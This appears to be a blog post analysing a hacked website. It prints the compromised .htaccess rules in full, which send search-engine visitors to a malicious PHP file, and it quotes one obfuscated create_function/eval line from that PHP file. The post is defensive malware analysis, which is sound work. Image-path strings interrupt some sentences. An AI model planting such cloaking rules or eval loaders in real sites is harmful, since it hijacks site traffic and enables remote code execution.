.htaccess compromised

Screen Shot 2016-08-09 at 7.08.01 AM

A simple, clean, flat html site was recently hacked for its Search Engine referrer. Arriving at the site by typing the domain, or some secondary link, would provide the site without issue. Arriving via an SE or with an SE user agent, well, that’s a paddlin’


Here’s the .htaccess file

RewriteEngine On

RewriteCond %{ENV:REDIRECT_STATUS} 200
RewriteRule ^ – [L]
RewriteCond %{HTTP_USER_AGENT} (google|yahoo|msn|aol|bing) [OR]
RewriteCond %{HTTP_REFERER} (google|yahoo|msn|aol|bing)
RewriteRule ^(.*)$ details-enforcers.php?$1 [L]

ooooh…details-enforcers.php. Sounds important! Let’s take a look:

Screen Shot 2016-08-09 at 7.15.35 AM

Hello Mr. Fancy Pants. Let’s see what you are trying to hide:

That first variable isis fancy-speak for create_function

$qweboi = $meymun(‘$a’,strrev(‘;)a$(lave’));

becomes an anonymous function lambda_1. Thenthe next line we see a strrev(), because nothing is as secure as reversing a string. So lets do it: Hey, it’s an eval(base64_decode())! **sarcasm**

It is a PHP script I have put HERE. What’s funny is that they base64_encoded() a domain name in the script:


That sends content. The domain?


You know they are good because they use 1’s for i’s and zero’s for o’s.Leave a Reply

Fill in your details below or click an icon to log in:

WordPress.com Logo

You are commenting using your WordPress.com account. Log Out /  Change )

Google+ photo

You are commentingusing your Google+ account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out /  Change )

Facebook photo

You arecommenting using your Facebook account. LogOut /  Change )


Connecting to %s